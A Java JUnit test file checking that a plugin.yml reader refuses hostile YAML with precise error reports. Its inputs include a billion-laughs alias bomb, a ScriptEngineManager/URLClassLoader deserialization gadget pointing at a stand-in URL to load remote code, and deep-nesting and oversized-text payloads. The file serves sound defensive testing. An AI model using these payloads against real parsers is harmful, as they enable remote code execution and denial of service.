package io.github.wazodeb.model;

import static io.github.wazodeb.model.PluginYamlRulesTest.lines;
import static io.github.wazodeb.model.PluginYamlRulesTest.read;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/** Input written to break the reader: each must end as problems in a report, quickly. */
@Timeout(value = 30, unit = TimeUnit.SECONDS)
class HostileYamlTest {

    private static final String VALID = "name: hello\nnamespace: acme\nversion: \"1.0\"\n";

    @Test
    void billionLaughsAliasBombIsRefused() {
        StringBuilder yaml = new StringBuilder(VALID).append("l0: &l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
        for (int level = 1; level < 10; level++) {
            yaml.append("l").append(level).append(": &l").append(level).append(" [");
            for (int i = 0; i < 9; i++) {
                yaml.append(i == 0 ? "" : ", ").append("*l").append(level - 1);
            }
            yaml.append("]\n");
        }
        PluginReport report = read(yaml.toString());
        assertThat(report.isValid()).isFalse();
        assertThat(report.errors()).singleElement().extracting(Problem::rule).asString()
                .contains("Number of aliases for non-scalar nodes exceeds the specified max=20");
    }

    @Test
    void javaClassTagIsRefusedNamingTheTagAndPosition() {
        PluginReport report = read("name: hello\nnamespace: acme\nversion: \"1.0\"\nx: !!javax.script.ScriptEngineManager "
                + "[!!java.net.URLClassLoader [[!!java.net.URL [\"http://example.com/\"]]]]\n");
        assertThat(lines(report)).containsExactly("wazo/plugin.yml:4:4: x \"!!javax.script.ScriptEngineManager\" is a YAML "
                + "tag that is not allowed: only plain YAML values are allowed (strings, numbers, booleans, null, "
                + "lists and mappings)");
    }

    @Test
    void localTagIsRefused() {
        PluginReport report = read("name: !foo hello\nnamespace: acme\nversion: \"1.0\"\n");
        assertThat(report.errors()).singleElement().satisfies(p -> {
            assertThat(p.value()).isEqualTo("!foo");
            assertThat(p.key()).isEqualTo("name");
            assertThat(p.line()).isEqualTo(1);
            assertThat(p.column()).isEqualTo(7);
        });
    }

    @Test
    void nonCoreStandardTagsAreRefused() {
        PluginReport report = read(VALID + "a: !!binary aGVsbG8=\nb: !!set {x, y}\nc: !!omap [x: 1]\n");
        assertThat(report.errors()).extracting(Problem::value).containsExactly("!!binary", "!!set", "!!omap");
    }

    @Test
    void coreTagsAreAccepted() {
        PluginReport report = read(VALID + "a: !!str 12\nb: !!int '7'\nc: !!float 1\nd: !!bool 'true'\ne: !!null ''\n");
        assertThat(report.descriptor().orElseThrow().otherKeys())
                .containsEntry("a", "12").containsEntry("b", 7L).containsEntry("c", 1.0).containsEntry("d", true)
                .containsEntry("e", null);
    }

    @Test
    void explicitIntTagOnAWordIsRefused() {
        assertThat(lines(read(VALID + "stars: !!int many\n"))).containsExactly(
                "wazo/plugin.yml:4:8: stars \"many\" is tagged as a number but is not one");
    }

    @Test
    void deepNestingIsRefused() {
        PluginReport report = read("x: " + "[".repeat(5000) + "]".repeat(5000) + "\n");
        assertThat(report.errors()).singleElement().extracting(Problem::rule).asString().contains("Nesting Depth");
    }

    @Test
    void unclosedDeepNestingIsRefused() {
        assertThat(read("[".repeat(100_000)).isValid()).isFalse();
    }

    @Test
    void recursiveAliasIsRefused() {
        assertThat(lines(read(VALID + "loop: &a [x, *a]\n"))).containsExactly(
                "wazo/plugin.yml:4:7: loop[1] refers to itself through an alias; recursive values are not allowed");
    }

    @Test
    void hugeTextIsRefusedBeforeParsing() {
        String huge = VALID + "pad: \"" + "x".repeat(2 * 1024 * 1024) + "\"\n";
        assertThat(lines(read(huge))).singleElement().asString()
                .startsWith("wazo/plugin.yml: is ").endsWith("characters long; a plugin.yml may hold at most 1048576");
    }

    @Test
    void byteOrderMarkIsAccepted() {
        assertThat(read("\uFEFF" + VALID).isValid()).isTrue();
    }

    @Test
    void crlfLineEndsAreAccepted() {
        PluginReport report = read(VALID.replace("\n", "\r\n") + "description: |\r\n  two\r\n  lines\r\n");
        assertThat(report.descriptor().orElseThrow().description()).contains("two\nlines\n");
    }

    @Test
    void tabIndentationIsOneSyntaxErrorWithItsPosition() {
        PluginReport report = read("name: hello\nnamespace: acme\n\tversion: \"1.0\"\n");
        assertThat(report.errors()).singleElement().satisfies(p -> {
            assertThat(p.line()).isEqualTo(3);
            assertThat(p.column()).isEqualTo(1);
            assertThat(p.rule()).startsWith("YAML syntax error: found character '\\t(TAB)'");
        });
    }

    @Test
    void emptyDocumentIsRefused() {
        assertThat(lines(read(""))).containsExactly(
                "wazo/plugin.yml: is empty: write a mapping with at least name, namespace and version");
    }

    @Test
    void commentOnlyDocumentIsRefused() {
        assertThat(lines(read("# nothing here\n\n# still nothing\n"))).containsExactly(
                "wazo/plugin.yml: is empty: write a mapping with at least name, namespace and version");
    }

    @Test
    void listInsteadOfMappingIsRefused() {
        assertThat(lines(read("- name: hello\n- namespace: acme\n"))).containsExactly("wazo/plugin.yml:1:1: the document is "
                + "a list, not a mapping: write name: ..., namespace: ... and version: ... at the top level");
    }

    @Test
    void scalarInsteadOfMappingIsRefused() {
        assertThat(read("just text\n").errors()).singleElement().extracting(Problem::rule).asString()
                .startsWith("the document is a string, not a mapping");
    }

    @Test
    void twoDocumentsAreRefused() {
        assertThat(read(VALID + "---\n" + VALID).errors()).singleElement().satisfies(p -> {
            assertThat(p.line()).isEqualTo(4);
            assertThat(p.rule()).startsWith("YAML syntax error: ");
        });
    }

    @Test
    void mergeKeysAreRefused() {
        assertThat(lines(read(VALID + "base: &b {x: 1}\nmore:\n  <<: *b\n"))).containsExactly(
                "wazo/plugin.yml:6:3: more \"<<\" merge keys are not supported: write the keys out");
    }

    @Test
    void complexKeyIsRefused() {
        assertThat(lines(read(VALID + "? [a, b]\n: 1\n"))).containsExactly(
                "wazo/plugin.yml:4:3: has a key that is a list, which wazo-plugind's JSON plugin list cannot serve: "
                        + "keys must be plain strings");
    }

    @Test
    void nulCharacterIsRefusedWithItsPosition() {
        assertThat(lines(read(VALID + "x: a\u0000b\n"))).containsExactly(
                "wazo/plugin.yml:4:5: contains character U+0000, which YAML does not allow");
    }
}
